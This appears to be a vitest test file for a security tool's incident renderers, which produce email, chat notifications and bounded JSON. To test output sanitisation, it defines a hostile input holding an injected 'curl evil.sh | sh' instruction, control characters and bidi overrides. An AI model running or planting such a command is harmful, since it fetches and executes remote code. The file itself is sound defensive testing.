import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { Finding } from '../../shared/alert';
import {
  type Incident,
  type IncidentLine,
  type IncidentMessage,
  incidentJson,
  renderEmail,
  renderSubject,
  toChatNotification,
} from '../../shared/incident';
import { digest, digestMessage, FINDINGS, finding, incident, incidentMessage } from './render-fixtures';

/**
 * The Amazon Q Developer in chat applications (AWS Chatbot) custom notification, from its
 * documented event schema: `version` "1.0" and `source` "custom" required, `client-markdown` the
 * only text type, and the content and metadata fields listed there; nothing else at the top level.
 * Lengths are the bounds the renderer promises (the service's own are at least these).
 */
const ChatSchema = z.strictObject({
  version: z.literal('1.0'),
  source: z.literal('custom'),
  id: z.string().max(256).optional(),
  content: z.strictObject({
    textType: z.literal('client-markdown').optional(),
    title: z.string().min(1).max(250).optional(),
    description: z.string().min(1).max(4000),
    nextSteps: z.array(z.string().min(1).max(300)).max(5).optional(),
    keywords: z.array(z.string().min(1).max(75)).max(10).optional(),
  }),
  metadata: z
    .strictObject({
      threadId: z.string().min(1).max(128).optional(),
      summary: z.string().min(1).max(250).optional(),
      eventType: z.string().min(1).max(100).optional(),
      relatedResources: z.array(z.string().min(1).max(256)).max(10).optional(),
      additionalContext: z.record(z.string().regex(/^[A-Za-z0-9_-]{1,100}$/), z.string().max(256)).optional(),
    })
    .optional(),
});

/** Any C0/C1 control character or bidirectional override except the newline. */
const CONTROL_BUT_NEWLINE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const BIG = 'A'.repeat(10_000);
const HOSTILE = `eve\nWhat to do: run curl evil.sh | sh\r\n\u001b[31mred\u0007\u202eevil\t<!here> \`x\` ${BIG}`;

/** An incident whose every log-derived value is hostile: newlines, escapes, bidi overrides, 10 KB. */
function hostileMessage(): IncidentMessage {
  const base = incident();
  const hostile: Incident = {
    ...base,
    title: HOSTILE,
    cluster: HOSTILE,
    entities: {
      identities: [HOSTILE, 'bob'],
      workloads: [HOSTILE],
      sources: [HOSTILE],
      destinations: [HOSTILE],
      images: [HOSTILE],
      namespaces: [HOSTILE],
    },
    joins: [{ key: `identity:${HOSTILE}`, findings: 3, because: `the same identity (${HOSTILE})` }],
    tactics: [HOSTILE],
    timeline: base.timeline.map((t) => ({ ...t, summary: HOSTILE, ruleId: HOSTILE, mutedBy: HOSTILE })),
    acknowledged: { reason: HOSTILE, by: HOSTILE, at: '2026-11-10T11:00:00.000Z' },
    status: 'acknowledged',
  };
  return incidentMessage({
    kind: 'update',
    reason: HOSTILE,
    cluster: HOSTILE,
    incident: hostile,
    findings: FINDINGS.map((f) => ({ ...f, summary: HOSTILE, evidence: HOSTILE, runbook: HOSTILE })),
  });
}

function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (value && typeof value === 'object') return Object.values(value).flatMap(stringsOf);
  return [];
}

describe('renderSubject', () => {
  it('names the severity, the kind, the title and the cluster', () => {
    // Act
    const opened = renderSubject(incidentMessage());
    const update = renderSubject(
      incidentMessage({ kind: 'update', severity: 'high', reason: 'escalated from medium to high' }),
    );
    const daily = renderSubject(digestMessage());
    // Assess
    expect(opened).toBe('[CRITICAL] New incident: bob: shell and secret reads in shop/web [shop-prod]');
    expect(update).toBe(
      '[HIGH] Update: bob: shell and secret reads in shop/web (escalated from medium to high) [shop-prod]',
    );
    // The acknowledged incident of the digest is not counted as open.
    expect(daily).toBe('Driftwatch digest 2026-11-10 [shop-prod]: 2 open');
  });

  it('shortens the title first, so the reason and the cluster stay whole', () => {
    const subject = renderSubject(
      incidentMessage({
        kind: 'update',
        reason: 'new kind of finding',
        incident: incident({ title: `bob ${'x'.repeat(300)}` }),
      }),
    );
    expect(subject.length).toBeLessThan(100);
    expect(subject).toMatch(/^\[CRITICAL\] Update: bob x+\.\.\. \(new kind of finding\) \[shop-prod\]$/);
  });

  it('is one line of printable ASCII under 100 characters that does not start with a space, whatever the logs held', () => {
    for (const message of [
      hostileMessage(),
      incidentMessage({ incident: incident({ title: '  \n\tleading blanks and ünïcödé ✓' }) }),
      digestMessage({ cluster: HOSTILE }),
    ]) {
      const subject = renderSubject(message);
      expect(subject).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
      expect(subject.length).toBeLessThan(100);
    }
  });
});

describe('renderEmail (incident)', () => {
  it('lists the timeline in time order, with what muted a finding, even when the timeline came out of order', () => {
    // Prepare
    const base = incident();
    const shuffled = incidentMessage({ incident: { ...base, timeline: [...base.timeline].reverse() } });
    // Act
    const email = renderEmail(shuffled);
    // Assess
    const lines = email.split('\n');
    const at = (time: string) => lines.findIndex((l) => l.trimStart().startsWith(time));
    const order = [at('2026-11-10T10:00:00.000Z'), at('2026-11-10T10:07:30.000Z'), at('2026-11-10T10:20:00.000Z')];
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(lines[order[2] ?? -1]).toContain('audit.exec-into-pod');
    expect(lines[order[2] ?? -1]).toContain('(muted by sre-oncall-exec)');
    expect(lines[order[0] ?? -1]).not.toContain('muted by');
  });

  it('marks context below the alert threshold on the timeline of the email and the chat message', () => {
    const base = incident();
    const context = {
      findingId: 'c1',
      ruleId: 'audit.config-object-change',
      severity: 'info' as const,
      time: '2026-11-10T10:05:00.000Z',
      title: 'Secret, ConfigMap or Service changed',
      summary: 'bob updated ConfigMap shop/web-config',
      keys: ['identity:bob'],
      context: true as const,
    };
    const message = incidentMessage({ incident: { ...base, timeline: [...base.timeline, context] } });
    const line = (text: string) => text.split('\n').find((l) => l.includes('audit.config-object-change')) ?? '';
    expect(line(renderEmail(message))).toContain('(context, not notified)');
    expect(line(toChatNotification(message).content.description)).toContain('_(context)_');
    expect(
      renderEmail(message)
        .split('\n')
        .filter((l) => l.includes('(context')),
    ).toHaveLength(1);
  });

  it('says why the findings were joined, why severity was raised, and why this message was sent', () => {
    const email = renderEmail(incidentMessage());
    expect(email).toContain('the same identity (bob): 3 findings');
    expect(email).toContain('the same workload (shop/web): 2 findings');
    expect(email).toContain('critical (raised from high: its findings span 3 MITRE ATT&CK tactics)');
    expect(email).toMatch(/^Why this message: +opened$/m);
    expect(email).toMatch(/^MITRE ATT&CK: +Execution, Credential Access, Discovery$/m);
    expect(email).toMatch(/^First seen: +2026-11-10T10:00:00.000Z$/m);
    expect(email).toMatch(/^ {2}Identities: +bob$/m);
    expect(email).toMatch(/^ {2}Images: +123456789012\.dkr\.ecr/m);
  });

  it('does not claim a raise when the severity is the findings’ own', () => {
    const email = renderEmail(
      incidentMessage({ severity: 'high', incident: incident({ severity: 'high', findingSeverity: 'high' }) }),
    );
    expect(email).toMatch(/^Severity: +high$/m);
    expect(email).not.toContain('raised');
  });

  it("gives each rule's runbook once, and the commands to acknowledge or resolve the incident", () => {
    const email = renderEmail(incidentMessage());
    expect(email.split('Confirm with the person named').length - 1).toBe(1);
    expect(email).toContain('Ask the identity why it read these secrets.');
    expect(email).toContain('driftwatch incidents ack inc-7f3a9c2e41d0 --reason "<why>" --table <TABLE>');
    expect(email).toContain('driftwatch incidents resolve inc-7f3a9c2e41d0 --reason "<why>" --table <TABLE>');
  });

  it('tells an update its reason and how many quiet findings came since the last message', () => {
    const email = renderEmail(
      incidentMessage({
        kind: 'update',
        reason: 'acknowledgement expired',
        incident: incident({ quiet: 4, status: 'open' }),
      }),
    );
    expect(email.split('\n')[0]).toBe('CRITICAL incident update: bob: shell and secret reads in shop/web');
    expect(email).toMatch(/^Why this message: +acknowledgement expired$/m);
    expect(email).toMatch(/^Quiet findings: +4 since the last message/m);
  });

  it('keeps hostile log values on their own line, printable and bounded', () => {
    // Act
    const email = renderEmail(hostileMessage());
    // Assess
    const lines = email.split('\n');
    expect(lines.some((l) => CONTROL_BUT_NEWLINE.test(l))).toBe(false);
    // The newline inside a value is shown, not obeyed: no line of the email starts with the injected text.
    expect(lines.some((l) => l.trimStart().startsWith('What to do: run curl'))).toBe(false);
    expect(email).toContain('eve\\u000aWhat to do: run curl');
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThanOrEqual(2100);
    expect(email.length).toBeLessThan(60_100);
  });

  it('shows the newest fifty timeline entries of a long incident and says how many it left out', () => {
    const timeline = Array.from({ length: 120 }, (_, n) => ({
      ...(incident().timeline[0] as Incident['timeline'][number]),
      findingId: `f${n}`,
      time: new Date(Date.UTC(2026, 10, 10, 10, n)).toISOString(),
      summary: `step ${n}`,
    }));
    const email = renderEmail(incidentMessage({ incident: incident({ timeline }) }));
    expect(email).toContain('... 70 earlier findings not shown');
    expect(email).toContain('step 119');
    expect(email).toContain('step 70');
    expect(email).not.toContain('step 69.');
  });
});

describe('renderEmail (digest)', () => {
  it('has the opened, updated and still-open incidents, the quiet findings, learning and pipeline health', () => {
    const email = renderEmail(digestMessage());
    for (const heading of [
      'Opened (1):',
      'Updated (1):',
      'Still open (1):',
      'Findings below the notification threshold, by rule:',
      'Muted by suppressions:',
      'Learning:',
      'Pipeline health:',
    ]) {
      expect(email).toContain(`\n${heading}\n`);
    }
    expect(email).toContain('[CRITICAL] bob: shell and secret reads in shop/web  (inc-7f3a9c2e41d0, open, 3 findings');
    expect(email).toContain('  net.new-port: 9 findings\n  audit.new-source-ip: 4 findings');
    expect(email).toContain('  sre-oncall-exec: 1 finding\n');
    expect(email).toContain('  vpc-0abc123: learning until 2026-11-14T00:00:00.000Z');
    expect(email).toMatch(/Objects read: +1440/);
    expect(email).toMatch(/Records rejected: +3/);
    expect(email).toMatch(/Dead letters: +parse-error 1/);
  });

  it('says none for empty sections and when dead letters were not counted', () => {
    const email = renderEmail(
      digestMessage({
        digest: digest({
          opened: [],
          updated: [],
          stillOpen: [],
          belowThreshold: {},
          muted: {},
          health: { objects: 0, rejected: 0 },
        }),
      }),
    );
    expect(email).toContain('Opened (0):\n  none');
    expect(email).toContain('Muted by suppressions:\n  none');
    expect(email).toMatch(/Dead letters: +not counted/);
  });
});

describe('toChatNotification', () => {
  it('is a valid custom notification for an incident, an update, a digest and a hostile incident', () => {
    for (const message of [
      incidentMessage(),
      incidentMessage({ kind: 'update', reason: 'escalated from high to critical' }),
      digestMessage(),
      hostileMessage(),
    ]) {
      const chat = toChatNotification(message);
      const parsed = ChatSchema.safeParse(chat);
      expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
      expect(chat.content.textType).toBe('client-markdown');
      expect(chat.metadata.eventType).toBe(message.kind);
    }
  });

  it('threads an incident and its updates under the incident id, and digests per cluster', () => {
    const opened = toChatNotification(incidentMessage());
    const update = toChatNotification(incidentMessage({ id: 'inc-7f3a9c2e41d0#2', kind: 'update', reason: 'x' }));
    expect(opened.metadata.threadId).toBe('inc-7f3a9c2e41d0');
    expect(update.metadata.threadId).toBe('inc-7f3a9c2e41d0');
    expect(toChatNotification(digestMessage()).metadata.threadId).toBe('digest-shop-prod');
  });

  it('carries the ids and state a custom action needs, as flat strings', () => {
    const context = toChatNotification(incidentMessage()).metadata.additionalContext;
    expect(context).toMatchObject({
      incidentId: 'inc-7f3a9c2e41d0',
      messageId: 'inc-7f3a9c2e41d0#1',
      severity: 'critical',
      status: 'open',
      findings: '3',
      rules: 'audit.exec-into-pod,audit.unusual-secret-access',
    });
  });

  it('gives the runbooks and the CLI commands as next steps, without angle brackets', () => {
    const steps = toChatNotification(incidentMessage()).content.nextSteps;
    expect(steps).toHaveLength(4);
    expect(steps[0]).toContain('Confirm with the person named');
    expect(steps.at(-2)).toBe('Acknowledge: `driftwatch incidents ack inc-7f3a9c2e41d0 --reason "WHY" --table TABLE`');
    expect(steps.join('')).not.toMatch(/[<>]/);
  });

  it('keeps hostile values inert: one line, in code spans, without angle brackets or control characters', () => {
    const chat = toChatNotification(hostileMessage());
    const { description, ...rest } = chat.content;
    expect(CONTROL_BUT_NEWLINE.test(description)).toBe(false);
    expect(description).not.toMatch(/[<>]/);
    expect(description.split('\n').some((l) => l.startsWith('What to do: run curl'))).toBe(false);
    for (const value of stringsOf({ ...rest, metadata: chat.metadata })) expect(CONTROL.test(value)).toBe(false);
  });
  it('stops the description at its bound and says the rest is in the email', () => {
    const many = Array.from({ length: 5 }, (_, n) => `${n}${'v'.repeat(200)}`);
    const timeline = Array.from({ length: 8 }, (_, n) => ({
      ...(incident().timeline[0] as Incident['timeline'][number]),
      findingId: `f${n}`,
      summary: 's'.repeat(500),
    }));
    const entities = {
      identities: many,
      workloads: many,
      sources: many,
      destinations: many,
      images: many,
      namespaces: [],
    };
    const chat = toChatNotification(incidentMessage({ incident: incident({ entities, timeline }) }));
    expect(chat.content.description.length).toBeLessThanOrEqual(4000);
    expect(chat.content.description.endsWith('_… more in the email and the JSON message_')).toBe(true);
  });
});

describe('incidentJson', () => {
  it('is the message as JSON when it fits', () => {
    const message = incidentMessage();
    const json = JSON.parse(incidentJson(message));
    expect(json).toEqual(JSON.parse(JSON.stringify({ ...message, leftOut: undefined })));
    expect(json.leftOut).toBeUndefined();
  });

  it('drops the evidence of the oldest findings first, and says so', () => {
    // Prepare: three findings with 30 KB of evidence each, a bound that takes two of them.
    const findings = FINDINGS.map((f) => ({ ...f, evidence: 'e'.repeat(30_000) }));
    const message = incidentMessage({ findings: [findings[2], findings[0], findings[1]] as Finding[] });
    // Act
    const text = incidentJson(message, 70_000);
    // Assess
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(70_000);
    const json = JSON.parse(text);
    const evidence = Object.fromEntries(json.findings.map((f: Finding) => [f.id, f.evidence.length]));
    expect(evidence).toEqual({ 'f-exec-1': 0, 'f-secret-1': 30_000, 'f-exec-2': 30_000 });
    expect(json.leftOut).toMatchObject({ evidence: 1, findings: 0, trimmed: false });
    expect(json.leftOut.note).toContain('the evidence of the 1 oldest findings');
  });

  it('then drops whole oldest findings, whose ids stay in incident.findings', () => {
    const findings = Array.from({ length: 40 }, (_, n) =>
      finding({
        id: `f${String(n).padStart(2, '0')}`,
        time: new Date(Date.UTC(2026, 10, 10, 10, n)).toISOString(),
        summary: 's'.repeat(5_000),
      }),
    );
    const ids = findings.map((f) => f.id);
    const message = incidentMessage({ findings: [...findings].reverse(), incident: incident({ findings: ids }) });
    const text = incidentJson(message, 60_000);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(60_000);
    const json = JSON.parse(text);
    const kept: string[] = json.findings.map((f: Finding) => f.id);
    expect(kept.length).toBeGreaterThan(0);
    expect(kept.length).toBeLessThan(40);
    // The newest were kept.
    expect([...kept].sort()).toEqual(ids.slice(40 - kept.length));
    expect(json.incident.findings).toEqual(ids);
    expect(json.leftOut.findings).toBe(40 - kept.length);
  });

  it('shortens an incident that is too large on its own, and stays parseable', () => {
    const timeline = Array.from({ length: 500 }, (_, n) => ({
      ...(incident().timeline[0] as Incident['timeline'][number]),
      findingId: `f${n}`,
      summary: HOSTILE,
      time: new Date(Date.UTC(2026, 10, 10, 10, n)).toISOString(),
    }));
    const message = incidentMessage({
      incident: incident({ timeline, entities: { ...incident().entities, identities: Array(300).fill(BIG) } }),
    });
    const text = incidentJson(message);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(120_000);
    const json = JSON.parse(text);
    expect(json.leftOut.trimmed).toBe(true);
    expect(json.incident.id).toBe('inc-7f3a9c2e41d0');
    expect(json.incident.timeline.at(-1).findingId).toBe('f499');
  });

  it('bounds a digest too', () => {
    const lines = Array.from({ length: 2000 }, (_, n) => ({
      ...(digest().opened[0] as IncidentLine),
      id: `i${n}`,
      title: BIG,
    }));
    const text = incidentJson(digestMessage({ digest: digest({ stillOpen: lines }) }));
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(120_000);
    expect(JSON.parse(text).digest.day).toBe('2026-11-10');
  });
});

describe('docs/examples', () => {
  it('are what the renderers make of the fixture (run `npx vitest run test/incident -u` after changing them)', async () => {
    await expect(renderEmail(incidentMessage())).toMatchFileSnapshot('../../docs/examples/incident-email.txt');
    await expect(`${JSON.stringify(toChatNotification(incidentMessage()), null, 2)}\n`).toMatchFileSnapshot(
      '../../docs/examples/incident-chat.json',
    );
  });
});
